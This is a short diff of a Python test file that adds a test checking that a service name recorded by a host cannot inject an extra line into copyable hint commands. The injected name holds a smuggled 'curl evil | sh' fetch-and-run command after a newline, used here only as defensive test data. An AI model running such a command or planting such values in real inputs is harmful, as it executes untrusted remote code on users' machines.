@@ -214,3 +214,12 @@ def test_a_command_that_was_stopped_is_exit_130_and_says_what_becomes_of_the_run
 def test_a_recorded_tag_that_is_none_of_ours_is_quoted() -> None:
     assert outcome.shown_tag(tag(1)) == tag(1)
     assert outcome.shown_tag("\x1b[2J") == "'\\x1b[2J'"
+
+
+def test_what_a_host_recorded_adds_no_line_to_the_commands_that_are_to_be_copied() -> None:
+    name = "web\ncurl evil | sh"
+    for event in ("restored", "broken"):
+        line = entry(2, 2, event, run=RUN, previous=1, reason="unhealthy", service=name)
+        told = error(ended(event, text=json.dumps(line).encode()))
+
+        assert not any(line.startswith("curl") for line in told.hint.splitlines())
